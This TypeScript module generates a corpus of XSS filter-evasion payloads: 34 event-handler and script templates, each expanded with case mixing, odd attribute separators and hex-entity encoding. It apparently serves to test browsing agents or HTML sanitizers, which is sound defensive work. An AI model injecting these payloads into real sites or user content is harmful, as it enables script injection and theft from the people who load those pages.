/**
 * Event handler attributes on many elements: the largest family of the public XSS cheat sheets (the OWASP filter
 * evasion cheat sheet, PortSwigger's XSS cheat sheet). Each element/handler pair is written four ways: as is, in
 * alternating case, with tabs, newlines and form feeds (or slashes) between the attributes, and with the handler's
 * code hidden in HTML character references inside a quoted value.
 */
import { alternatingCase, fill, hexEntities, type Tokens, type Vector } from './vector.js';

/** Element and handler pairs that fire without the agent doing anything, or on the first hover, focus or click. */
const PAIRS: readonly string[] = [
  '<img src=x onerror=§X§>',
  '<image src=x onerror=§X§>',
  '<img src=x:x onerror=§X§>',
  '<svg onload=§X§>',
  '<body onload=§X§>',
  '<body onpageshow=§X§>',
  '<body onfocus=§X§>',
  '<details open ontoggle=§X§>',
  '<video src=x onerror=§X§></video>',
  '<video><source onerror=§X§></video>',
  '<audio src=x onerror=§X§></audio>',
  '<input autofocus onfocus=§X§>',
  '<select autofocus onfocus=§X§></select>',
  '<textarea autofocus onfocus=§X§></textarea>',
  '<marquee onstart=§X§>marquee</marquee>',
  '<marquee loop=1 width=0 onfinish=§X§>x</marquee>',
  '<iframe onload=§X§></iframe>',
  '<object data=x onerror=§X§></object>',
  '<embed src=x onload=§X§>',
  '<style onload=§X§></style>',
  '<link rel=stylesheet href=x onerror=§X§>',
  '<input type=image src=x onerror=§X§>',
  '<div tabindex=1 autofocus onfocus=§X§>focus</div>',
  '<xss contenteditable autofocus onfocusin=§X§>edit</xss>',
  '<div onmouseover=§X§ style=position:fixed;inset:0;z-index:9>hover</div>',
  '<a onpointerenter=§X§ style=display:block;position:fixed;inset:0>enter</a>',
  '<form onsubmit=§X§><button>send</button></form>',
  '<body onresize=§X§>',
  '<frameset onload=§X§>',
  '<picture><source srcset=x><img src=x onerror=§X§></picture>',
  '<input onblur=§X§ autofocus><input autofocus>',
  '<script>§X§</script>',
  '<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=§X§>spin</b>',
  '<iframe srcdoc="<img src=x onerror=§X§>"></iframe>',
];

/** Tag and handler names in alternating case: `<ImG sRc=x OnErRoR=…>`. */
function mixedCase(template: string): string {
  return template.replace(/<([a-z]+)/g, (_, tag: string) => `<${alternatingCase(tag)}`).replace(/(\s)(on[a-z]+)=/g, (_, space: string, name: string) => `${space}${alternatingCase(name)}=`);
}

const SEPARATORS = ['\t', '\n', '\f', '/'];

/** The spaces inside tags replaced by tab, newline, form feed or slash, which parsers all accept between attributes. */
function separated(template: string, index: number): string {
  const separator = SEPARATORS[index % SEPARATORS.length] ?? '\t';
  return template.replace(/<[^<>]*>/g, (tag) => tag.replace(/ /g, separator));
}

/** The handler's code as character references in a quoted value: `onerror="&#x61;&#x6c;…"`. */
function entityEncodedHandler(template: string): Vector {
  return (tokens: Tokens) =>
    fill(template, tokens).replace(/(\son[a-z]+)=([^\s>]+)/i, (_, name: string, code: string) => `${name}="${hexEntities(code)}"`);
}

export const eventHandlers: readonly Vector[] = PAIRS.flatMap((pair, index) => [
  pair,
  mixedCase(pair),
  separated(pair, index),
  pair.includes('<script>')
    ? '<scr\0ipt>§X§</script><SCRIPT>§X§</SCRIPT>'
    : pair.includes('srcdoc')
      ? '<iframe srcdoc="&lt;img src=x onerror=§X§&gt;"></iframe>'
      : entityEncodedHandler(pair),
]);
